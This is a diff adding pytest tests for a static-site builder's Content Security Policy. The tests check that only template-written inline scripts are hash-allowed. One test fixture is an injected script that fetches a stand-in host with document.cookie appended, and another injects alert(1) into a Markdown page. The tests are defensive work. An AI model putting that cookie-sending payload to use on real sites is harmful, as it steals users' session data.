@@ -9,7 +9,7 @@ from typing import TYPE_CHECKING
 import pytest
 from jinja2.exceptions import TemplateError
 
-from conftest import ROOT
+from conftest import FIXTURE_SITES, ROOT, make_project, run_build
 from stodguiden.site import csp, images, materialfixes
 
 if TYPE_CHECKING:
@@ -61,3 +61,38 @@ def test_image_sizes_come_from_the_file(tmp_path: Path) -> None:
     assert images.size(tmp_path / "b.svg") == (120, 40)
     assert images.size(tmp_path / "c.txt") is None
     assert images.size(tmp_path / "saknas.png") is None
+
+
+def test_a_script_in_a_pages_content_runs_only_if_our_templates_wrote_it() -> None:
+    ours = "<script>document.documentElement.classList.add('sg-x')</script>"
+    injected = "<script>fetch('https://example.org/?'+document.cookie)</script>"
+    frame = f'<meta content="{csp.PLACEHOLDER}"><script>frame()</script><main>{{}}</main>'
+    content = f"<p>Text</p>{ours}{injected}"
+    html, hashes = csp.with_policy(frame.format(content), content, frozenset(csp.inline_script_hashes(ours)))
+    assert hashes == csp.inline_script_hashes("<script>frame()</script>" + ours)
+    assert csp.inline_script_hashes(injected)[0] not in html
+    assert csp.inline_script_hashes(ours)[0] in html
+
+
+def test_the_trusted_scripts_are_the_finders_and_searchs_first_paint() -> None:
+    from stodguiden.site.pages import TEMPLATES
+
+    trusted = csp.template_script_hashes(TEMPLATES)
+    texts = [(TEMPLATES / name).read_text(encoding="utf-8") for name in ("finder.html", "search.html")]
+    assert trusted == frozenset(hash for text in texts for hash in csp.inline_script_hashes(text))
+    assert len(trusted) == 2
+
+
+def test_a_script_in_a_markdown_page_in_docs_is_not_allowed(tmp_path: Path) -> None:
+    """Raw HTML in docs/ can hold a script; the build never lets it run (a web team puts scripts in files)."""
+    project = make_project(tmp_path / "p", FIXTURE_SITES / "minimal" / "data")
+    (project / "docs" / "om-foraldraskapsstod.md").write_text(
+        "# Om föräldraskapsstöd\n\n<script>alert(1)</script>\n", encoding="utf-8"
+    )
+    build = run_build(project, "--strict")
+    assert build.ok, build.result.stderr
+    html = build.html("om-foraldraskapsstod/")
+    assert "<script>alert(1)</script>" in html
+    (policy,) = META.findall(html)
+    assert csp.inline_script_hashes("<script>alert(1)</script>")[0] not in policy
+    assert "'sha256-" in policy  # the frame's own scripts are still allowed
